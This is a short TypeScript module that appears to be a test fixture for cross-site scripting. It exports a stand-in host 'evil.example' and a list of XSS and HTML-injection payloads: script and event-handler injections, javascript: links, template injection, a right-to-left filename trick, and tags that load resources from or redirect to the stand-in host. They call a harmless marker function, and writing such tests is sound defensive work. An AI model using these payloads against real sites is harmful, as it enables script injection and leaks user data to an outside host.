/** Where everything hostile would go. */
export const foreignHost = 'evil.example';

/** `id` says which field it is; the page's function `attacked` reports that its script ran. */
export const payloads: ((id: number) => string)[] = [
  (id) => `"><script>attacked(${id})</script>`,
  (id) => `<img src=x onerror=attacked(${id})>`,
  (id) => `<svg/onload=attacked(${id})><x-attack>`,
  (id) => `javascript:attacked(${id})`,
  (id) => `[go](javascript:attacked(${id}))`,
  (id) => `\${attacked(${id})}{{attacked(${id})}}`,
  () => `<style>@import'https://${foreignHost}/a'</style>`,
  (id) => `&lt;img src=x onerror=attacked(${id})&gt;`,
  (id) => `'-attacked(${id})-'\`"`,
  (id) => `![a](https://${foreignHost}/${id})`,
  () => `\u202egnp.exe\u202c\u2066`,
  () => `<base href=https://${foreignHost}><x-attack>`,
];

/** All of them, where there is room. */
export const everything = (id: number): string =>
  [
    ...payloads.map((payload) => payload(id)),
    `<iframe srcdoc="<script>parent.attacked(${id})</script>"></iframe>`,
    `<a href="data:text/html,<script>opener.attacked(${id})</script>" autofocus onfocus=attacked(${id})>a</a>`,
    `<img src=https://${foreignHost}/${id}>`,
    `<p style="background:url(https://${foreignHost}/${id})">`,
    `<details open ontoggle=attacked(${id})>`,
    `<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=attacked(${id})&gt;">`,
    `<form action=https://${foreignHost}><button formaction="javascript:attacked(${id})">`,
    `<meta http-equiv=refresh content="0;url=https://${foreignHost}">`,
    `https://${foreignHost}/"onmouseover="attacked(${id})`,
    `</textarea></title></script><script>attacked(${id})</script>`,
  ].join(' ');
